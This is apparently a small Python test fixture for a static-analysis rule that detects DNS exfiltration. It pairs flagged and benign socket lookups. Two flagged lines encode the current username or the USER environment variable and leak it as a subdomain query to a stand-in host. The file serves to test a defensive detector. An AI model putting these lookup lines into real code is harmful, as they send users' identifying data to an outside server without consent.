import base64
import getpass
import os
import socket

chunk = base64.b32encode(getpass.getuser().encode()).decode().strip("=")
# ruleid: py-dns-exfil
socket.gethostbyname(f"{chunk}.{socket.gethostname()}.t.example.invalid")
# ruleid: py-dns-exfil
socket.gethostbyname(os.environ["USER"].encode().hex() + ".x.example.invalid")
# ok: py-dns-exfil
addr = socket.gethostbyname(settings.DB_HOST)
# ok: py-dns-exfil
info = socket.getaddrinfo(host, port, proto=socket.IPPROTO_TCP)
